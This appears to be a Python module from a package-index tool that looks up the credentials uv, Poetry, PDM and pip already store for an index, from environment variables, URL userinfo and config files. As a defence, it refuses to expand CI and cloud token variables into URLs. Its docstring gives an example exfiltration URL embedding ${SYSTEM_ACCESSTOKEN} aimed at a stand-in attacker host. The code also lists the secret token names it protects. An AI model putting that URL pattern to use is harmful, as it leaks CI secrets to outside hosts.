"""Each package client's own credential for an index (DESIGN.md section 6, ``--auth auto`` step 2).

An index of an organization is configured for one client: uv, Poetry, PDM or pip. That client
already has a credential for it, in a place of its own:

- uv: ``UV_INDEX_<NAME>_PASSWORD`` of a named ``[[tool.uv.index]]`` (name upper-cased, every
  other character than a letter or digit becomes ``_``);
- Poetry: the source URL's ``user:password@``, else ``POETRY_HTTP_BASIC_<NAME>_PASSWORD`` of a
  ``[[tool.poetry.source]]`` (name upper-cased, only ``-`` becomes ``_``), else
  ``[http-basic.<name>] password`` in the project's ``poetry.toml``, in Poetry's ``auth.toml``
  (``poetry config http-basic.<name> USER PASS``) or ``config.toml``, in ``POETRY_CONFIG_DIR`` or
  the platform's config dir;
- PDM: ``[pypi.<name>] username``/``password`` in the project's ``pdm.toml``, then in PDM's global
  config file (``PDM_CONFIG_FILE`` or the platform's config dir); without a user name there, the
  source URL's ``user:password@``, where PDM expands ``${VAR}`` from the environment;
- pip: the ``user:password@`` of the index URL; requirements and constraints files expand
  ``${VAR}`` (``[A-Z0-9_]`` names, an unset or empty one stays as written); pip.conf does not.

A placeholder is expanded only where its client expands it. Elsewhere the client sends its
literal text, which is no credential, so none is taken from it. A placeholder that names a
variable azfeeds governs more strictly (``AZFEEDS_*``, ``AZURE_*`` with ``AZURE_DEVOPS_EXT_PAT``,
``SYSTEM_ACCESSTOKEN``, the identity tokens of steps 4 to 6, and the CI job tokens
``GITHUB_TOKEN``, ``GH_TOKEN``, ``ACTIONS_RUNTIME_TOKEN``, ``CI_JOB_TOKEN``) is never expanded: a pull request
could otherwise point ``https://x:${SYSTEM_ACCESSTOKEN}@evil.example/...`` at itself. Such an
index yields a warning and no credential.

Standard library only (no requests, no tomlkit): ``env`` and ``doctor --offline`` use it too.
"""

from __future__ import annotations

import os
import re
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from urllib.parse import quote, unquote

from .kinds.base import FileKind, Role, Site
from .tomlscan import TomlSyntaxError, scan_toml

UV, POETRY, PDM, PIP = "uv", "poetry", "pdm", "pip"
CLIENT_NAMES = {UV: "uv", POETRY: "Poetry", PDM: "PDM", PIP: "pip"}

_UV_ENV_RE = re.compile(r"[^A-Za-z0-9]")
_PDM_VAR_RE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}")  # PDM: ${NAME}
_PIP_VAR_RE = re.compile(r"\$\{([A-Z0-9_]+)\}")  # pip: ${NAME}, NAME in [A-Z0-9_]+
_ANY_PLACEHOLDER_RE = re.compile(
    r"\$\{[^}]*\}|\$\([^)]*\)|\$[A-Za-z_][A-Za-z0-9_]*|\{env:[^}]*\}|%[A-Za-z_][A-Za-z0-9_]*%"
)
_GOVERNED_NAMES = frozenset(
    {
        "SYSTEM_ACCESSTOKEN",
        "IDENTITY_HEADER",
        "MSI_SECRET",
        # CI job tokens: never a feed's credential, and a pull request must not collect them
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "ACTIONS_RUNTIME_TOKEN",
        "CI_JOB_TOKEN",
    }
)
_GOVERNED_PREFIXES = ("AZFEEDS_", "AZURE_", "AZURESUBSCRIPTION_", "ACTIONS_ID_TOKEN_")


def uv_env_name(name: str) -> str:
    """The ``<NAME>`` of ``UV_INDEX_<NAME>_PASSWORD``."""
    return _UV_ENV_RE.sub("_", name).upper()


def poetry_env_name(name: str) -> str:
    """The ``<NAME>`` of ``POETRY_HTTP_BASIC_<NAME>_PASSWORD``: upper case, ``-`` -> ``_`` only
    (what Poetry 2.x reads; a ``.`` stays, so such a name cannot be set from a POSIX shell)."""
    return name.upper().replace("-", "_")


def is_governed(variable: str) -> bool:
    """A variable that only azfeeds' stricter rules may send (never expanded into an URL)."""
    upper = variable.upper()
    return upper in _GOVERNED_NAMES or upper.startswith(_GOVERNED_PREFIXES)


@dataclass(frozen=True)
class IndexRef:
    """One index as a client configures it: enough to find that client's own credential."""

    client: str  # uv, poetry, pdm or pip
    name: str | None  # the index or source name (uv, Poetry, PDM)
    url: str  # the URL as written (userinfo and placeholders included)
    location: str  # file:line, for messages
    project_dir: str  # the directory of the file (PDM's pdm.toml sits there)
    expands: bool  # the client expands ${VAR} in this URL

    @property
    def identity(self) -> tuple[object, ...]:
        """What decides the credential found (the location only names it in messages)."""
        return (self.client, self.name, self.url, self.project_dir, self.expands)


def ref_for_site(site: Site) -> IndexRef | None:
    """The IndexRef of a configuration site (None for lock strings)."""
    role = site.role
    if role.in_lock:
        return None
    directory = os.fspath(site.path.parent) or "."
    if role in (Role.UV_INDEX, Role.UV_PUBLISH, Role.UV_INDEX_URL):
        name = site.index_name if role is not Role.UV_INDEX_URL else None
        return IndexRef(UV, name, site.url, site.location, directory, False)
    if role is Role.POETRY:
        return IndexRef(POETRY, site.index_name, site.url, site.location, directory, False)
    if role is Role.PDM:
        return IndexRef(PDM, site.index_name, site.url, site.location, directory, True)
    if role in (Role.PIP_CONF, Role.REQUIREMENTS):
        expands = role is Role.REQUIREMENTS and site.kind is FileKind.REQUIREMENTS
        return IndexRef(PIP, None, site.url, site.location, directory, expands)
    return None  # a lock file's URL, or a kind no client reads credentials from


def without_userinfo(ref: IndexRef) -> IndexRef:
    """The same index with no ``user:password@`` (what to set once the password is stripped)."""
    return replace(ref, url=re.sub(r"(?<=://)[^/@]*@", "", ref.url, count=1))


@dataclass(frozen=True)
class Found:
    """A client's own credential: where it came from (never the value) and the password."""

    source: str
    password: str = field(repr=False)


@dataclass
class Lookup:
    """The outcome of looking for one index's own credential."""

    found: Found | None = None
    warnings: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)  # e.g. a placeholder the client sends as is


# -- config files -----------------------------------------------------------------------------


def _home(env: Mapping[str, str]) -> Path:
    return Path(env.get("HOME") or env.get("USERPROFILE") or os.path.expanduser("~"))


def poetry_config_dir(env: Mapping[str, str], platform: str = sys.platform) -> Path:
    """Poetry's config dir: ``POETRY_CONFIG_DIR``, else the platform's user config dir."""
    if env.get("POETRY_CONFIG_DIR"):
        return Path(env["POETRY_CONFIG_DIR"])
    if platform == "win32":
        appdata = env.get("APPDATA") or str(_home(env) / "AppData" / "Roaming")
        return Path(appdata) / "pypoetry"
    if platform == "darwin":
        return _home(env) / "Library" / "Application Support" / "pypoetry"
    xdg = env.get("XDG_CONFIG_HOME") or str(_home(env) / ".config")
    return Path(xdg) / "pypoetry"


def poetry_auth_file(env: Mapping[str, str], platform: str = sys.platform) -> Path:
    """Poetry's ``auth.toml`` (``poetry config http-basic...`` writes it)."""
    return poetry_config_dir(env, platform) / "auth.toml"


def pdm_global_config(env: Mapping[str, str], platform: str = sys.platform) -> Path:
    """PDM's global config file: ``PDM_CONFIG_FILE``, else the platform's user config dir."""
    if env.get("PDM_CONFIG_FILE"):
        return Path(env["PDM_CONFIG_FILE"])
    if platform == "win32":
        local = env.get("LOCALAPPDATA") or str(_home(env) / "AppData" / "Local")
        return Path(local) / "pdm" / "pdm" / "config.toml"
    if platform == "darwin":
        return _home(env) / "Library" / "Application Support" / "pdm" / "config.toml"
    xdg = env.get("XDG_CONFIG_HOME") or str(_home(env) / ".config")
    return Path(xdg) / "pdm" / "config.toml"


class ConfigFiles:
    """Reads the credential tables of client config files, once each (bad files are warnings)."""

    def __init__(self, env: Mapping[str, str]) -> None:
        self.env = env
        self.warnings: list[str] = []
        self._cache: dict[Path, dict[tuple[str, ...], str] | None] = {}

    def table(self, path: Path, top: str, name: str) -> dict[str, str]:
        """The string keys of ``[<top>.<name>]`` in a TOML file ({} when absent or unreadable)."""
        values = self._read(path, top)
        if not values:
            return {}
        return {k[2]: v for k, v in values.items() if len(k) == 3 and k[1] == name}

    def _read(self, path: Path, top: str) -> dict[tuple[str, ...], str] | None:
        if path in self._cache:
            return self._cache[path]
        values: dict[tuple[str, ...], str] | None = None
        try:
            text = path.read_text(encoding="utf-8-sig")
        except FileNotFoundError:
            text = None
        except (OSError, UnicodeDecodeError) as exc:
            self.warnings.append(f"{path}: cannot read it ({_why(exc)}); its credentials unused")
            text = None
        if text is not None:
            try:
                scan = scan_toml(text, lambda p, _v: bool(p) and p[0] == top, tables=False)
            except TomlSyntaxError as exc:
                self.warnings.append(
                    f"{path}:{exc.line}: not valid TOML ({exc.message}); its credentials unused"
                )
            else:
                values = {
                    tuple(str(part) for part in s.path): s.value
                    for s in scan.strings
                    if all(isinstance(part, str) for part in s.path)
                }
        self._cache[path] = values
        return values


def _why(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.strerror:
        return exc.strerror
    return "not UTF-8" if isinstance(exc, UnicodeDecodeError) else type(exc).__name__


# -- the lookup -------------------------------------------------------------------------------


def _userinfo(url: str) -> str | None:
    rest = url.split("://", 1)
    if len(rest) != 2:
        return None
    authority = re.split(r"[/?#]", rest[1], maxsplit=1)[0]
    if "@" not in authority:
        return None
    return authority.rsplit("@", 1)[0]


def _password_part(userinfo: str) -> str | None:
    """The password part, or None for a user name alone (``{env:PAT:}`` is one placeholder)."""
    from .urls import split_userinfo

    return split_userinfo(userinfo)[1]


def referenced_variables(ref: IndexRef) -> list[str]:
    """The ``${VAR}`` names in the URL's userinfo that this client expands (in order)."""
    userinfo = _userinfo(ref.url)
    if userinfo is None or not ref.expands:
        return []
    pattern = _PDM_VAR_RE if ref.client == PDM else _PIP_VAR_RE
    return list(dict.fromkeys(pattern.findall(userinfo)))


def client_variables(ref: IndexRef) -> tuple[str | None, str | None]:
    """The (user, password) variables of the client in use for this index, where it has them.

    uv and Poetry name one per index; PDM and pip read the variables their URL references.
    """
    if ref.client == UV and ref.name:
        env = uv_env_name(ref.name)
        return f"UV_INDEX_{env}_USERNAME", f"UV_INDEX_{env}_PASSWORD"
    if ref.client == POETRY and ref.name:
        env = poetry_env_name(ref.name)
        return f"POETRY_HTTP_BASIC_{env}_USERNAME", f"POETRY_HTTP_BASIC_{env}_PASSWORD"
    userinfo = _userinfo(ref.url)
    if userinfo is None or not ref.expands:
        return None, None
    pattern = _PDM_VAR_RE if ref.client == PDM else _PIP_VAR_RE
    user, colon, password = userinfo.partition(":")
    users = pattern.findall(user)
    passwords = pattern.findall(password) if colon else []
    return (users[0] if users else None), (passwords[0] if passwords else None)


def where_to_set(ref: IndexRef) -> str:
    """What to set for this index's credential, in the words of its client (for hints)."""
    _, password_var = client_variables(ref)
    if ref.client == UV:
        if password_var:
            return password_var
        return "a name for this index ([[tool.uv.index]]) and its UV_INDEX_<NAME>_PASSWORD"
    if ref.client == POETRY:
        if password_var and ref.name:
            return f"{password_var} (or 'poetry config http-basic.{ref.name} USER PAT')"
        return "a name for this source and its POETRY_HTTP_BASIC_<NAME>_PASSWORD"
    if ref.client == PDM:
        config = f"'pdm config pypi.{ref.name}.password PAT'" if ref.name else "PDM's config"
        if password_var:
            return f"{password_var} (the URL's ${{{password_var}}}), or {config}"
        return f"{config} with a username, or ${{USER}}:${{PAT}} in the source URL"
    if password_var:
        return f"{password_var} (the URL's ${{{password_var}}})"
    if ref.expands:
        return "a ${PAT} variable in the URL's userinfo (pip expands it in requirements files)"
    return (
        "a keyring credential for pip (pip.conf cannot hold a variable: 'pip install keyring "
        "artifacts-keyring'), or ${PAT} in a requirements file's URL"
    )


def _expand(ref: IndexRef, text: str, env: Mapping[str, str], out: Lookup) -> str | None:
    """Expand the placeholders of a userinfo part as the client does; None: not usable."""
    if not ref.expands:
        literal = _ANY_PLACEHOLDER_RE.search(text)
        if literal is not None:
            out.notes.append(
                f"{ref.location}: {CLIENT_NAMES[ref.client]} does not expand {literal.group(0)} "
                "here: it sends the text as written, which no server accepts"
            )
            return None
        return unquote(text)
    pattern = _PDM_VAR_RE if ref.client == PDM else _PIP_VAR_RE
    names = pattern.findall(text)
    governed = [n for n in names if is_governed(n)]
    if governed:
        out.warnings.append(
            f"{ref.location}: the URL's ${{{governed[0]}}} is not expanded: azfeeds never puts "
            f"{governed[0]} into an index URL (it goes only where its own rules allow); "
            "no credential is taken from this URL"
        )
        return None
    if ref.client == PDM:
        # PDM: an unset variable becomes empty; values are percent-quoted, then the whole
        # userinfo is decoded, so literal text is decoded and values come back as they are.
        expanded = pattern.sub(lambda m: quote(env.get(m.group(1), ""), safe=""), text)
        return unquote(expanded)

    # pip: an unset or empty variable stays as written (and is then no credential)
    def pip_value(match: re.Match[str]) -> str:
        return env.get(match.group(1)) or match.group(0)

    expanded = pattern.sub(pip_value, text)
    missing = _ANY_PLACEHOLDER_RE.search(expanded)
    if missing is not None:
        out.notes.append(
            f"{ref.location}: {missing.group(0)} is not set, so pip sends it as written"
        )
        return None
    return unquote(expanded)


def _from_url(ref: IndexRef, env: Mapping[str, str], out: Lookup) -> None:
    userinfo = _userinfo(ref.url)
    if userinfo is None:
        return
    raw = _password_part(userinfo)
    if raw is None:
        return  # a user name alone: a keyring hint, no credential
    password = _expand(ref, raw, env, out)
    if password is None:
        return
    if not password:
        return
    placeholder = ref.expands and (_PDM_VAR_RE if ref.client == PDM else _PIP_VAR_RE).search(raw)
    if placeholder:
        source = f"${{{placeholder.group(1)}}} in the URL at {ref.location}"
    else:
        source = f"the password written in the URL at {ref.location}"
    out.found = Found(source, password)


def _usable(value: str | None) -> bool:
    """A stored password that is a credential (a client sends a placeholder literally)."""
    return bool(value) and not _ANY_PLACEHOLDER_RE.fullmatch(value or "")


def own_credential(ref: IndexRef, env: Mapping[str, str], files: ConfigFiles) -> Lookup:
    """This index's own credential, as its client finds it (first that applies)."""
    out = Lookup()
    if ref.client == UV:
        _, var = client_variables(ref)
        if var and env.get(var):
            out.found = Found(var, env[var])
            return out
        _from_url(ref, env, out)
        return out
    if ref.client == POETRY:
        # Poetry: credentials in the URL first, then http-basic.<name> (env, then auth.toml)
        _from_url(ref, env, out)
        if out.found is not None or not ref.name:
            return out
        _, var = client_variables(ref)
        if var and env.get(var):
            out.found = Found(var, env[var])
            return out
        # then the project's poetry.toml, auth.toml, config.toml (Poetry's merge order)
        config_dir = poetry_config_dir(env)
        for path in (
            Path(ref.project_dir) / "poetry.toml",
            config_dir / "auth.toml",
            config_dir / "config.toml",
        ):
            stored = files.table(path, "http-basic", ref.name).get("password")
            if _usable(stored):
                assert stored is not None
                out.found = Found(f"http-basic.{ref.name} in {path}", stored)
                return out
        return out
    if ref.client == PDM and ref.name:
        # PDM: [pypi.<name>] from pdm.toml, then the global config, fills the source's
        # username/password; with a username set there, that pair wins over the URL's.
        username: str | None = None
        password: tuple[str, Path] | None = None
        for path in (Path(ref.project_dir) / "pdm.toml", pdm_global_config(env)):
            fields = files.table(path, "pypi", ref.name)
            username = username or fields.get("username")
            if password is None and fields.get("password"):
                password = (fields["password"], path)
        if username:
            if password is not None and _usable(password[0]):
                out.found = Found(f"pypi.{ref.name}.password in {password[1]}", password[0])
            elif password is not None:
                out.notes.append(
                    f"pypi.{ref.name}.password in {password[1]} is a placeholder that PDM does "
                    "not expand (it expands source URLs only): it sends it as written"
                )
            return out
    _from_url(ref, env, out)
    return out
